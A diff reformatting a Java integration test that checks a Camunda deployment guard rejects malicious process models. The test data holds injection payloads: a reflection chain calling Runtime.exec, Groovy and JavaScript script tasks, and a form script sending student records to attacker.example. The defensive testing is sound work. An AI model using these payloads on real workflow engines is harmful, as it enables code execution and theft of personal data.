@@ -1,5 +1,8 @@
 package app.parvandeh.workflow;
 
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
 import app.parvandeh.support.ApiClient;
 import app.parvandeh.support.ApiClient.Response;
 import app.parvandeh.support.ParvandehIntegrationTest;
@@ -22,71 +25,121 @@ import org.junit.jupiter.params.provider.Arguments;
 import org.junit.jupiter.params.provider.MethodSource;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.web.server.LocalServerPort;
-import static org.assertj.core.api.Assertions.assertThat;
-import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 /**
- * A process owner may change steps in BPMN but not deploy code: each attack seen in issue 8 is deployed through
- * engine REST (what Modeler does) and through the webapps' API (what Cockpit does) and refused with 400 naming the
- * element; a legitimately changed model is accepted through both doors; and an expression that never went through a
- * deployment still cannot reach other beans or reflection.
+ * A process owner may change steps in BPMN but not deploy code: each attack seen in issue 8 is
+ * deployed through engine REST (what Modeler does) and through the webapps' API (what Cockpit does)
+ * and refused with 400 naming the element; a legitimately changed model is accepted through both
+ * doors; and an expression that never went through a deployment still cannot reach other beans or
+ * reflection.
  */
 @ParvandehIntegrationTest
 class ModelDeploymentGuardTests {
 
   private static final String OWNER = "process.owner";
 
-  @LocalServerPort
-  int port;
-  @Autowired
-  RepositoryService repository;
-  @Autowired
-  ProcessEngine engine;
+  @LocalServerPort int port;
+  @Autowired RepositoryService repository;
+  @Autowired ProcessEngine engine;
 
   static Stream<Arguments> attacks() {
     return Stream.of(
-        Arguments.of("a bean read into a task name", "Probe", probe(
-            "<userTask id=\"Probe\" name=\"${studentService.get(studentNumber).nationalId}\"/>")),
-        Arguments.of("a bean called from a service task", "Probe", probe(
-            "<serviceTask id=\"Probe\" camunda:expression=\"${studentService.get('400000001')}\"/>")),
-        Arguments.of("Runtime.exec through reflection", "Probe", probe("<serviceTask id=\"Probe\" camunda:expression="
-            + "\"${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null)"
-            + ".exec('touch /tmp/parvandeh-pwned')}\"/>")),
-        Arguments.of("a script task", "Probe", probe("<scriptTask id=\"Probe\" scriptFormat=\"javascript\">"
-            + "<script>java.lang.Runtime.getRuntime().exec('id')</script></scriptTask>")),
-        Arguments.of("a script listener", "Probe", probe("<userTask id=\"Probe\"><extensionElements>"
-            + "<camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"groovy\">'id'.execute()"
-            + "</camunda:script></camunda:executionListener></extensionElements></userTask>")),
-        Arguments.of("camunda:class", "Probe", probe(
-            "<serviceTask id=\"Probe\" camunda:class=\"org.camunda.bpm.engine.impl.bpmn.behavior.NoneEndEventActivityBehavior\"/>")),
-        Arguments.of("a delegate expression naming another bean", "Probe", probe(
-            "<serviceTask id=\"Probe\" camunda:delegateExpression=\"${studentService}\"/>")),
-        Arguments.of("an external script resource in a condition", "Flow_Out", probeWithCondition(
-            "<conditionExpression xsi:type=\"tFormalExpression\" language=\"javascript\" "
-                + "camunda:resource=\"deployment://evil.js\"/>")),
-        Arguments.of("a form key pointing outside the shipped forms", "Probe", probe(
-            "<userTask id=\"Probe\" camunda:formKey=\"embedded:https://attacker.example/form.html\"/>")),
-        Arguments.of("a task.setVariable listener expression", "Probe", probe("<userTask id=\"Probe\">"
-            + "<extensionElements><camunda:taskListener event=\"complete\" "
-            + "expression=\"${task.setVariable('issuedBy', task.execution.processEngineServices)}\"/>"
-            + "</extensionElements></userTask>")),
-        Arguments.of("a decision with a JUEL expression", "InputEntry_Juel", Map.of("evil.dmn", decision(
-            "<inputEntry id=\"InputEntry_Juel\" expressionLanguage=\"juel\"><text>${studentService.count() > 0}</text>"
-                + "</inputEntry>"))),
-        Arguments.of("a decision with a script expression", "Decision_Probe", Map.of("evil.dmn", decision(
-            "<inputEntry id=\"InputEntry_Script\"><text>-</text></inputEntry>").replace("<decision id=\"Decision_Probe\"",
-            "<decision id=\"Decision_Probe\" expressionLanguage=\"groovy\""))),
-        Arguments.of("an unknown resource file", "evil.js", withResource(probe("<userTask id=\"Probe\"/>"),
-            "evil.js", "java.lang.Runtime.getRuntime().exec('id')")),
-        Arguments.of("a changed HTML form", "forms/check-admission-documents.html", withResource(
-            probe("<userTask id=\"Probe\"/>"), "forms/check-admission-documents.html",
-            "<form><script>fetch('/api/students').then(r => r.text()).then(t => navigator.sendBeacon("
-                + "'https://attacker.example', t))</script></form>")));
+        Arguments.of(
+            "a bean read into a task name",
+            "Probe",
+            probe(
+                "<userTask id=\"Probe\" name=\"${studentService.get(studentNumber).nationalId}\"/>")),
+        Arguments.of(
+            "a bean called from a service task",
+            "Probe",
+            probe(
+                "<serviceTask id=\"Probe\" camunda:expression=\"${studentService.get('400000001')}\"/>")),
+        Arguments.of(
+            "Runtime.exec through reflection",
+            "Probe",
+            probe(
+                "<serviceTask id=\"Probe\" camunda:expression="
+                    + "\"${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null)"
+                    + ".exec('touch /tmp/parvandeh-pwned')}\"/>")),
+        Arguments.of(
+            "a script task",
+            "Probe",
+            probe(
+                "<scriptTask id=\"Probe\" scriptFormat=\"javascript\">"
+                    + "<script>java.lang.Runtime.getRuntime().exec('id')</script></scriptTask>")),
+        Arguments.of(
+            "a script listener",
+            "Probe",
+            probe(
+                "<userTask id=\"Probe\"><extensionElements>"
+                    + "<camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"groovy\">'id'.execute()"
+                    + "</camunda:script></camunda:executionListener></extensionElements></userTask>")),
+        Arguments.of(
+            "camunda:class",
+            "Probe",
+            probe(
+                "<serviceTask id=\"Probe\" camunda:class=\"org.camunda.bpm.engine.impl.bpmn.behavior.NoneEndEventActivityBehavior\"/>")),
+        Arguments.of(
+            "a delegate expression naming another bean",
+            "Probe",
+            probe("<serviceTask id=\"Probe\" camunda:delegateExpression=\"${studentService}\"/>")),
+        Arguments.of(
+            "an external script resource in a condition",
+            "Flow_Out",
+            probeWithCondition(
+                "<conditionExpression xsi:type=\"tFormalExpression\" language=\"javascript\" "
+                    + "camunda:resource=\"deployment://evil.js\"/>")),
+        Arguments.of(
+            "a form key pointing outside the shipped forms",
+            "Probe",
+            probe(
+                "<userTask id=\"Probe\" camunda:formKey=\"embedded:https://attacker.example/form.html\"/>")),
+        Arguments.of(
+            "a task.setVariable listener expression",
+            "Probe",
+            probe(
+                "<userTask id=\"Probe\">"
+                    + "<extensionElements><camunda:taskListener event=\"complete\" "
+                    + "expression=\"${task.setVariable('issuedBy', task.execution.processEngineServices)}\"/>"
+                    + "</extensionElements></userTask>")),
+        Arguments.of(
+            "a decision with a JUEL expression",
+            "InputEntry_Juel",
+            Map.of(
+                "evil.dmn",
+                decision(
+                    "<inputEntry id=\"InputEntry_Juel\" expressionLanguage=\"juel\"><text>${studentService.count() > 0}</text>"
+                        + "</inputEntry>"))),
+        Arguments.of(
+            "a decision with a script expression",
+            "Decision_Probe",
+            Map.of(
+                "evil.dmn",
+                decision("<inputEntry id=\"InputEntry_Script\"><text>-</text></inputEntry>")
+                    .replace(
+                        "<decision id=\"Decision_Probe\"",
+                        "<decision id=\"Decision_Probe\" expressionLanguage=\"groovy\""))),
+        Arguments.of(
+            "an unknown resource file",
+            "evil.js",
+            withResource(
+                probe("<userTask id=\"Probe\"/>"),
+                "evil.js",
+                "java.lang.Runtime.getRuntime().exec('id')")),
+        Arguments.of(
+            "a changed HTML form",
+            "forms/check-admission-documents.html",
+            withResource(
+                probe("<userTask id=\"Probe\"/>"),
+                "forms/check-admission-documents.html",
+                "<form><script>fetch('/api/students').then(r => r.text()).then(t => navigator.sendBeacon("
+                    + "'https://attacker.example', t))</script></form>")));
   }
 
   @ParameterizedTest(name = "{0} is refused through engine REST")
   @MethodSource("attacks")
-  void engineRestRefusesTheAttackNamingTheElement(String attack, String element, Map<String, String> resources) {
+  void engineRestRefusesTheAttackNamingTheElement(
+      String attack, String element, Map<String, String> resources) {
     long before = repository.createDeploymentQuery().count();
     assertRefused(ModelDeployments.throughEngineRest(port, OWNER, bytes(resources)), element);
     assertThat(repository.createDeploymentQuery().count()).isEqualTo(before);
@@ -94,37 +147,57 @@ class ModelDeploymentGuardTests {
 
   @ParameterizedTest(name = "{0} is refused through Cockpit's API")
   @MethodSource("attacks")
-  void cockpitsApiRefusesTheAttackNamingTheElement(String attack, String element, Map<String, String> resources) {
+  void cockpitsApiRefusesTheAttackNamingTheElement(
+      String attack, String element, Map<String, String> resources) {
     ApiClient owner = ApiClient.signedIn(port, OWNER, "parvandeh");
     long before = repository.createDeploymentQuery().count();
-    assertRefused(ModelDeployments.throughWebappApi(owner, owner.camundaWebappHeaders(), bytes(resources)), element);
+    assertRefused(
+        ModelDeployments.throughWebappApi(owner, owner.camundaWebappHeaders(), bytes(resources)),
+        element);
     assertThat(repository.createDeploymentQuery().count()).isEqualTo(before);
   }
 
   @Test
   void theJavaApiRefusesTheSameModels() {
-    String model = probe("<serviceTask id=\"Probe\" camunda:expression=\"${studentService.get('1')}\"/>")
-        .get("probe.bpmn");
+    String model =
+        probe("<serviceTask id=\"Probe\" camunda:expression=\"${studentService.get('1')}\"/>")
+            .get("probe.bpmn");
     assertThatThrownBy(() -> repository.createDeployment().addString("probe.bpmn", model).deploy())
-        .isInstanceOf(ParseException.class).hasMessageContaining("Probe").hasMessageContaining("studentService");
+        .isInstanceOf(ParseException.class)
+        .hasMessageContaining("Probe")
+        .hasMessageContaining("studentService");
   }
 
   @Test
   void aChangedModelWithAnExtraCheckStepIsAcceptedThroughBothDoors() throws IOException {
-    Map<String, byte[]> edited = ModelDeployments.withShippedForms("StudentFileProcess.bpmn",
-        ModelDeployments.withExtraCheckStep());
+    Map<String, byte[]> edited =
+        ModelDeployments.withShippedForms(
+            "StudentFileProcess.bpmn", ModelDeployments.withExtraCheckStep());
     try {
       Response rest = ModelDeployments.throughEngineRest(port, OWNER, edited);
       assertThat(rest.status()).as(rest.toString()).isEqualTo(200);
       ApiClient owner = ApiClient.signedIn(port, OWNER, "parvandeh");
-      Response cockpit = ModelDeployments.throughWebappApi(owner, owner.camundaWebappHeaders(), edited);
+      Response cockpit =
+          ModelDeployments.throughWebappApi(owner, owner.camundaWebappHeaders(), edited);
       assertThat(cockpit.status()).as(cockpit.toString()).isEqualTo(200);
-      assertThat(repository.createProcessDefinitionQuery().processDefinitionKey(StudentFileProcess.PROCESS_ID)
-          .latestVersion().singleResult().getVersionTag()).isEqualTo("2.1.0-test");
-      // A harmless probe is accepted too: the attacks above are refused for what they do, not for being probes.
-      Response probe = ModelDeployments.throughEngineRest(port, OWNER, bytes(probe(
-          "<userTask id=\"Probe\" name=\"${studentNumber}\" camunda:candidateGroups=\"${facultyGroup}\" "
-              + "camunda:dueDate=\"${workflowSettings.dueDate('check-faculty')}\"/>")));
+      assertThat(
+              repository
+                  .createProcessDefinitionQuery()
+                  .processDefinitionKey(StudentFileProcess.PROCESS_ID)
+                  .latestVersion()
+                  .singleResult()
+                  .getVersionTag())
+          .isEqualTo("2.1.0-test");
+      // A harmless probe is accepted too: the attacks above are refused for what they do, not for
+      // being probes.
+      Response probe =
+          ModelDeployments.throughEngineRest(
+              port,
+              OWNER,
+              bytes(
+                  probe(
+                      "<userTask id=\"Probe\" name=\"${studentNumber}\" camunda:candidateGroups=\"${facultyGroup}\" "
+                          + "camunda:dueDate=\"${workflowSettings.dueDate('check-faculty')}\"/>")));
       assertThat(probe.status()).as(probe.toString()).isEqualTo(200);
     } finally {
       ModelDeployments.restoreTheModelsOfThisBuild(repository);
@@ -135,76 +208,120 @@ class ModelDeploymentGuardTests {
   void anExpressionThatWasNeverDeployedStillCannotReachOtherBeansOrReflection() {
     ProcessEngineConfigurationImpl configuration =
         (ProcessEngineConfigurationImpl) engine.getProcessEngineConfiguration();
-    assertThat(evaluate(configuration, "${workflowSettings.escalationDays() >= 0}")).isEqualTo(true);
+    assertThat(evaluate(configuration, "${workflowSettings.escalationDays() >= 0}"))
+        .isEqualTo(true);
     assertThatThrownBy(() -> evaluate(configuration, "${studentService}"))
-        .isInstanceOf(ProcessEngineException.class).hasMessageContaining("studentService");
-    assertThatThrownBy(() -> evaluate(configuration, "${'x'.getClass().forName('java.lang.Runtime')}"))
-        .isInstanceOf(ProcessEngineException.class).hasMessageContaining("getClass");
+        .isInstanceOf(ProcessEngineException.class)
+        .hasMessageContaining("studentService");
+    assertThatThrownBy(
+            () -> evaluate(configuration, "${'x'.getClass().forName('java.lang.Runtime')}"))
+        .isInstanceOf(ProcessEngineException.class)
+        .hasMessageContaining("getClass");
     assertThatThrownBy(() -> evaluate(configuration, "${workflowSettings['class']}"))
-        .isInstanceOf(ProcessEngineException.class).hasMessageContaining("class");
+        .isInstanceOf(ProcessEngineException.class)
+        .hasMessageContaining("class");
   }
 
   @Test
   void aModelStoredBeforeTheCheckIsRefusedOnRedeployAndCannotReachBeansOrReflectionWhenItRuns() {
     ProcessEngineConfigurationImpl configuration =
         (ProcessEngineConfigurationImpl) engine.getProcessEngineConfiguration();
-    String beanRead = deployedWithoutTheCheck(configuration,
-        "<serviceTask id=\"Probe\" camunda:expression=\"${execution.setVariable('leak', studentService.toString())}\"/>");
-    String reflection = deployedWithoutTheCheck(configuration, "<serviceTask id=\"Probe\" camunda:expression="
-        + "\"${execution.setVariable('leak', ''.getClass().forName('java.lang.Runtime'))}\"/>");
+    String beanRead =
+        deployedWithoutTheCheck(
+            configuration,
+            "<serviceTask id=\"Probe\" camunda:expression=\"${execution.setVariable('leak', studentService.toString())}\"/>");
+    String reflection =
+        deployedWithoutTheCheck(
+            configuration,
+            "<serviceTask id=\"Probe\" camunda:expression="
+                + "\"${execution.setVariable('leak', ''.getClass().forName('java.lang.Runtime'))}\"/>");
     try {
-      Response redeploy = ApiClient.signedIn(port, OWNER, "parvandeh")
-          .engineRest("POST", "/deployment/" + beanRead + "/redeploy", Map.of());
+      Response redeploy =
+          ApiClient.signedIn(port, OWNER, "parvandeh")
+              .engineRest("POST", "/deployment/" + beanRead + "/redeploy", Map.of());
       assertRefused(redeploy, "Probe");
 
-      String processDefinition = repository.createProcessDefinitionQuery().deploymentId(beanRead).singleResult()
-          .getId();
-      assertThatThrownBy(() -> engine.getRuntimeService().startProcessInstanceById(processDefinition))
-          .isInstanceOf(ProcessEngineException.class).hasMessageContaining("studentService");
-      String reflective = repository.createProcessDefinitionQuery().deploymentId(reflection).singleResult().getId();
+      String processDefinition =
+          repository.createProcessDefinitionQuery().deploymentId(beanRead).singleResult().getId();
+      assertThatThrownBy(
+              () -> engine.getRuntimeService().startProcessInstanceById(processDefinition))
+          .isInstanceOf(ProcessEngineException.class)
+          .hasMessageContaining("studentService");
+      String reflective =
+          repository.createProcessDefinitionQuery().deploymentId(reflection).singleResult().getId();
       assertThatThrownBy(() -> engine.getRuntimeService().startProcessInstanceById(reflective))
-          .isInstanceOf(ProcessEngineException.class).hasMessageContaining("getClass");
-      assertThat(engine.getRuntimeService().createVariableInstanceQuery().variableName("leak").count()).isZero();
+          .isInstanceOf(ProcessEngineException.class)
+          .hasMessageContaining("getClass");
+      assertThat(
+              engine.getRuntimeService().createVariableInstanceQuery().variableName("leak").count())
+          .isZero();
     } finally {
       repository.deleteDeployment(beanRead, true);
       repository.deleteDeployment(reflection, true);
     }
   }
 
-  /** As if deployed before this check existed: the engine's own deployers only, for one deployment. */
-  private String deployedWithoutTheCheck(ProcessEngineConfigurationImpl configuration, String element) {
+  /**
+   * As if deployed before this check existed: the engine's own deployers only, for one deployment.
+   */
+  private String deployedWithoutTheCheck(
+      ProcessEngineConfigurationImpl configuration, String element) {
     List<Deployer> all = configuration.getDeployers();
-    configuration.getDeploymentCache().setDeployers(all.stream()
-        .filter(deployer -> !(deployer instanceof ModelDeploymentGuard)).toList());
+    configuration
+        .getDeploymentCache()
+        .setDeployers(
+            all.stream().filter(deployer -> !(deployer instanceof ModelDeploymentGuard)).toList());
     try {
-      return repository.createDeployment().addString("probe.bpmn", probe(element).get("probe.bpmn")).deploy().getId();
+      return repository
+          .createDeployment()
+          .addString("probe.bpmn", probe(element).get("probe.bpmn"))
+          .deploy()
+          .getId();
     } finally {
       configuration.getDeploymentCache().setDeployers(all);
     }
   }
 
   private static Object evaluate(ProcessEngineConfigurationImpl configuration, String expression) {
-    return configuration.getCommandExecutorTxRequired().execute(context -> configuration.getExpressionManager()
-        .createExpression(expression).getValue(StartProcessVariableScope.getSharedInstance()));
+    return configuration
+        .getCommandExecutorTxRequired()
+        .execute(
+            context ->
+                configuration
+                    .getExpressionManager()
+                    .createExpression(expression)
+                    .getValue(StartProcessVariableScope.getSharedInstance()));
   }
 
   private static void assertRefused(Response answer, String element) {
     assertThat(answer.status()).as(answer.toString()).isEqualTo(400);
     assertThat(answer.json().get("type").asText()).isEqualTo("ParseException");
     String message = answer.json().get("message").asText();
-    assertThat(message).contains(element).contains("مدل پذیرفته نشد").contains("The model was refused");
+    assertThat(message)
+        .contains(element)
+        .contains("مدل پذیرفته نشد")
+        .contains("The model was refused");
     assertThat(answer.json().get("details").toString()).contains(element);
   }
 
   /** A minimal executable process: start → the probed element (id Probe) → end. */
   private static Map<String, String> probe(String element) {
-    return Map.of("probe.bpmn", definitions(element + "<sequenceFlow id=\"Flow_Out\" sourceRef=\"Probe\" "
-        + "targetRef=\"End\"/>"));
+    return Map.of(
+        "probe.bpmn",
+        definitions(
+            element
+                + "<sequenceFlow id=\"Flow_Out\" sourceRef=\"Probe\" "
+                + "targetRef=\"End\"/>"));
   }
 
   private static Map<String, String> probeWithCondition(String condition) {
-    return Map.of("probe.bpmn", definitions("<exclusiveGateway id=\"Probe\"/><sequenceFlow id=\"Flow_Out\" "
-        + "sourceRef=\"Probe\" targetRef=\"End\">" + condition + "</sequenceFlow>"));
+    return Map.of(
+        "probe.bpmn",
+        definitions(
+            "<exclusiveGateway id=\"Probe\"/><sequenceFlow id=\"Flow_Out\" "
+                + "sourceRef=\"Probe\" targetRef=\"End\">"
+                + condition
+                + "</sequenceFlow>"));
   }
 
   private static String definitions(String body) {
@@ -214,7 +331,8 @@ class ModelDeploymentGuardTests {
         + "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" targetNamespace=\"http://parvandeh.app/probe\">"
         + "<process id=\"GuardProbe\" isExecutable=\"true\" camunda:historyTimeToLive=\"P1D\">"
         + "<startEvent id=\"Start\"/><sequenceFlow id=\"Flow_In\" sourceRef=\"Start\" targetRef=\"Probe\"/>"
-        + body + "<endEvent id=\"End\"/></process></definitions>";
+        + body
+        + "<endEvent id=\"End\"/></process></definitions>";
   }
 
   private static String decision(String inputEntry) {
@@ -225,11 +343,14 @@ class ModelDeploymentGuardTests {
         + "<input id=\"Input_Probe\"><inputExpression id=\"InputExpression_Probe\" typeRef=\"string\">"
         + "<text>studentNumber</text></inputExpression></input>"
         + "<output id=\"Output_Probe\" name=\"result\" typeRef=\"string\"/>"
-        + "<rule id=\"Rule_Probe\">" + inputEntry + "<outputEntry id=\"OutputEntry_Probe\"><text>\"x\"</text>"
+        + "<rule id=\"Rule_Probe\">"
+        + inputEntry
+        + "<outputEntry id=\"OutputEntry_Probe\"><text>\"x\"</text>"
         + "</outputEntry></rule></decisionTable></decision></definitions>";
   }
 
-  private static Map<String, String> withResource(Map<String, String> resources, String name, String content) {
+  private static Map<String, String> withResource(
+      Map<String, String> resources, String name, String content) {
     Map<String, String> more = new LinkedHashMap<>(resources);
     more.put(name, content);
     return more;
